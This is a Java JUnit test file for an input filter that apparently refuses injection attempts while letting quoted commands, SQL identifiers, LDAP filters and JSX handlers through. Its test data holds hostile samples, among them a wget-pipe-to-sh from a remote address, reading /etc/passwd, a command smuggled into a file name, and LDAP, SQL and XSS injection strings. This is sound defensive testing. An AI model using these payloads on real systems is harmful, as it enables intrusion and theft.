package dev.rampart.domain.inspection;

import static org.assertj.core.api.Assertions.assertThat;

import dev.rampart.domain.inspection.grammar.Indicator;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Commands, filters and statements that somebody quotes, beside the same where they break out of
 * something.
 */
final class QuotationsTest {

  @ParameterizedTest
  @ValueSource(
      strings = {
        "The hook runs `ls *.txt | wc -l` and fails.",
        "`cat notes.txt | sort` prints them in order.",
        "Please try: `mount -a; df -h`, then call me.",
      })
  void a_command_line_in_a_sentence_is_quoted(String value) {
    assertThat(Inspected.indicators(value))
        .contains(Indicator.SHELL_QUOTED_CHAIN)
        .doesNotContain(
            Indicator.SHELL_CHAIN, Indicator.SHELL_CHAIN_SOFT, Indicator.SHELL_BACKTICK);
    assertThat(Inspected.isRefused(value)).isFalse();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "`uname -a`",
        "x`uname -a`",
        "report.txt;`uname -a`",
        "name=`uname -a`",
        "10.1.1.1 `uname -a",
      })
  void a_command_that_stands_in_no_sentence_is_not_quoted(String value) {
    assertThat(Inspected.indicators(value))
        .contains(Indicator.SHELL_BACKTICK)
        .doesNotContain(Indicator.SHELL_QUOTED);
    assertThat(Inspected.isRefused(value)).isTrue();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "Please see `cat /etc/passwd` for me",
        "The tool `ls | wc -l` is fine; cat /etc/passwd",
        "My name is `wget http://203.0.113.7/a.sh -O- | sh`",
      })
  void a_sentence_around_an_attack_does_not_hide_it(String value) {
    assertThat(Inspected.isRefused(value)).isTrue();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "select * from `orders` where `date` = 5 limit 1",
        "INSERT INTO `group` (`id`, `sort`) VALUES (1, 2)",
      })
  void a_name_of_mysql_in_backticks_is_no_command(String value) {
    assertThat(Inspected.indicators(value))
        .doesNotContain(Indicator.SHELL_BACKTICK, Indicator.SHELL_CHAIN);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "The filter (&(ou=Sales)(!(title=Guest))) of the phone book still lists the guests.",
        "ldapsearch -b \"dc=example\" \"(&(objectClass=person)(sn=A*))\" finds two people",
      })
  void a_whole_filter_in_a_sentence_is_quoted(String value) {
    assertThat(Inspected.indicators(value))
        .contains(Indicator.LDAP_QUOTED)
        .doesNotContain(Indicator.LDAP_BREAKOUT, Indicator.LDAP_FILTER);
    assertThat(Inspected.isRefused(value)).isFalse();
  }

  @ParameterizedTest
  @ValueSource(strings = {"*)(uid=*))(|(uid=*", "ann)(|(cn=*))", "a*)(&(sn=b)"})
  void a_filter_that_ends_another_is_refused(String value) {
    assertThat(Inspected.indicators(value)).contains(Indicator.LDAP_BREAKOUT);
    assertThat(Inspected.isRefused(value)).isTrue();
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '~',
      quoteCharacter = '`',
      value = {
        "rows = db.query('SELECT name FROM items WHERE id = ?') ~ SQL_STRING ~ SQL_BREAKOUT",
        "state = 'new' OR state = 'open' ~ SQL_LITERAL_LOGIC ~ SQL_QUOTE_LOGIC",
        "a IN ('x', 'y') AND b = 1 ~ SQL_LITERAL_LOGIC ~ SQL_QUOTE_LOGIC",
        "(a = 1 or b = 2) and c = 3 ~ SQL_PAREN_LOGIC ~ SQL_PAREN_BREAKOUT",
        "<a onClick={() => open()}>x</a> ~ HTML_HANDLER_BOUND ~ HTML_HANDLER",
        "<a onClick={e => save(e)}>x</a> ~ HTML_HANDLER_BOUND ~ HTML_HANDLER",
        "<a onClick={this.save}>x</a> ~ HTML_HANDLER_BOUND ~ HTML_HANDLER",
      })
  void what_a_program_holds_is_told_from_what_breaks_out(
      String value, Indicator own, Indicator foreign) {
    assertThat(Inspected.indicators(value)).contains(own).doesNotContain(foreign);
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '~',
      quoteCharacter = '`',
      value = {
        "x' UNION SELECT name FROM items ~ SQL_BREAKOUT ~ SQL_STRING",
        "x' OR 'a'='a ~ SQL_QUOTE_LOGIC ~ SQL_LITERAL_LOGIC",
        "1) OR (1=1 ~ SQL_PAREN_BREAKOUT ~ SQL_PAREN_LOGIC",
        "<a onclick={alert(1)}>x</a> ~ HTML_HANDLER ~ HTML_HANDLER_BOUND",
        "<a onclick=\"() => x\">x</a> ~ HTML_HANDLER ~ HTML_HANDLER_BOUND",
      })
  void what_breaks_out_is_told_from_what_a_program_holds(
      String value, Indicator foreign, Indicator own) {
    assertThat(Inspected.indicators(value)).contains(foreign).doesNotContain(own);
    assertThat(Inspected.isRefused(value)).isTrue();
  }
}
